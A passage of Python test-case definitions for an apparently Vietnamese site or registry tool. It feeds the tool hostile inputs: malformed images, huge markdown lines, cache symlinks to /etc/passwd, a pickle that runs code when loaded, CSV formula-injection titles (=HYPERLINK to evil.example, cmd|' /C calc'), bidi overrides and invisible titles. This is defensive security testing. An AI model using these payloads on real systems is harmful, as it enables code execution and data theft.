    ("webp-exif-loop", "webp:exif-loop", "a WebP whose EXIF sub-IFD points back at itself"),
    ("jpeg-orientation-ascii", "jpeg:orientation-ascii", "a JPEG whose Orientation tag is an ASCII string"),
    ("jpeg-orientation-99", "jpeg:orientation-99", "a JPEG whose Orientation tag is 99"),
]:
    ext = spec.split(":")[0].replace("jpeg", "jpg")
    C(
        f"photo-{cid}",
        what,
        front={"photos": [{"file": f"anh.{ext}", "caption": "Ảnh hiện trường", "credit": "Khối vận"}]},
        files={f"anh.{ext}": spec},
    )
C(
    "photo-same-stem",
    "`a.jpg` and `a.png` both listed on one exemplar (the outputs share a name)",
    front={
        "photos": [
            {"file": "a.jpg", "caption": "Ảnh đỏ", "credit": "Khối vận"},
            {"file": "a.png", "caption": "Ảnh xanh", "credit": "Khối vận"},
        ]
    },
    files={"a.jpg": "jpeg:red", "a.png": "png:blue"},
    probe="distinct_photos",
)
C(
    "photo-listed-100",
    "one photo listed 100 times",
    front={"photos": [{"file": "a.jpg", "caption": f"Ảnh lần {i}", "credit": "Khối vận"} for i in range(100)]},
    files={"a.jpg": "jpeg"},
)
for cid, unit in [
    ("brackets", "["),
    ("angles", "<"),
    ("star-underscore", "*_"),
    ("link-openers", "[a]("),
    ("blockquote", "> "),
]:
    C(
        f"long-line-{cid}",
        f"a 200 KB single line of `{unit}` in the story",
        story_add=unit * (200_000 // len(unit)) + "\n",
    )
C(
    "near-limit-pathological",
    "a file just under the 256 KiB limit of nested emphasis, lists and links",
    story_add="\n".join(("  " * (i % 40)) + "- " + "*a _b [c](d) `e` **f" * 6 for i in range(1700)) + "\n",
)

# =============================================================================================
# Trusting what the repository should never carry
# =============================================================================================
T = lambda cid, what, **kw: add(Case(cid, TRUST, what, alone=True, **kw))  # noqa: E731
T(
    "cache-photo-symlink",
    "a committed .cache/ whose photo entries are symlinks to /etc/passwd",
    front={"photos": [{"file": "anh.jpg", "caption": "Ảnh", "credit": "Khối vận"}]},
    files={"anh.jpg": "jpeg"},
    setup="cache_photo_symlink",
    needles=["root:x:0:0"],
)
T(
    "cache-card-symlink",
    "a committed .cache/ whose social-card entries are symlinks to /etc/passwd",
    setup="cache_card_symlink",
    needles=["root:x:0:0"],
)
T(
    "cache-photo-poisoned",
    "a committed .cache/ whose photo entry is a JPEG with GPS and a marker in EXIF",
    front={"photos": [{"file": "anh.jpg", "caption": "Ảnh", "credit": "Khối vận"}]},
    files={"anh.jpg": "jpeg"},
    setup="cache_photo_poison",
    needles=["GPS§"],
)
T(
    "cache-pickle-rce",
    "a .cache/dvk/checked.pickle whose unpickling runs code when `dvk check` starts",
    setup="cache_pickle",
    probe="pickle_marker",
)
T(
    "cache-dir-symlink",
    "a committed .cache that is a symlink to a folder outside the repository",
    setup="cache_dir_outside",
    probe="outside_untouched",
)
T("tracked-site", "a tracked site/ folder carrying its own page with a script", setup="tracked_site")

# =============================================================================================
# Registries and outputs
# =============================================================================================
for cid, title in [
    ("equals", '=HYPERLINK("http://evil.example/§","bấm")'),
    ("plus", "+1+cmd|' /C calc'!A0 §"),
    ("minus", "-2+3+cmd|' /C calc'!A0 §"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0 §"),
    ("tab", "\t=1+1 mô hình §"),
    ("cr", "\r=1+1 mô hình §"),
]:
    add(
        Case(
            f"csv-formula-title-{cid}",
            REGISTRY,
            f"a title starting with {cid!r} reaching the CSV cells",
            front={"title": title},
        )
    )
add(
    Case(
        "csv-formula-person",
        REGISTRY,
        "a person name starting with = reaching the CSV",
        kind="individual",
        front={"person.name": "=cmd|'/C calc'!A0 §"},
    )
)
add(
    Case(
        "csv-formula-summary",
        REGISTRY,
        "a summary starting with @ reaching the CSV",
        front={"summary": "@SUM(1+1) tóm tắt điển hình đủ dài §"},
    )
)
add(
    Case(
        "unit-name-formula-xlsx",
        REGISTRY,
        "a unit name `=HYPERLINK(…)` in units.yml reaching the CSVs and the xlsx report",
        alone=True,
        setup="units_formula",
        xlsx=True,
    )
)
add(
    Case(
        "unit-name-control-chars",
        REGISTRY,
        "control characters (\\x0b, \\x1b, \\x08) in a unit name breaking the feeds",
        alone=True,
        setup="units_control",
        xlsx=True,
    )
)
add(
    Case(
        "unit-name-duplicate",
        REGISTRY,
        "two units with the same name in units.yml",
        alone=True,
        setup="units_duplicate",
        must_refuse=True,
    )
)
add(
    Case(
        "bidi-override-title",
        REGISTRY,
        "a bidi override U+202E in the title",
        front={"title": "Mô hình \u202egnọưđ ởm\u202c thử §"},
        needles=["\u202e", "&#8238;", "&#x202e;", "&#x202E;"],
    )
)
for cid, ch in [
    ("spaces", " "),
    ("zwsp", "\u200b"),
    ("hangul-filler", "\u3164"),
    ("braille-blank", "\u2800"),
    ("nbsp", "\u00a0"),
]:
    add(
        Case(
            f"invisible-title-{cid}",
            REGISTRY,
            f"a title made only of {cid} (U+{ord(ch):04X})",
            raw={"title": '"' + (f"\\u{ord(ch):04x}" * 12) + '"'},
            must_refuse=True,
        )
    )


def by_id() -> dict[str, Case]:
    return {c.id: c for c in CASES}


assert len({c.id for c in CASES}) == len(CASES), "duplicate case ids"
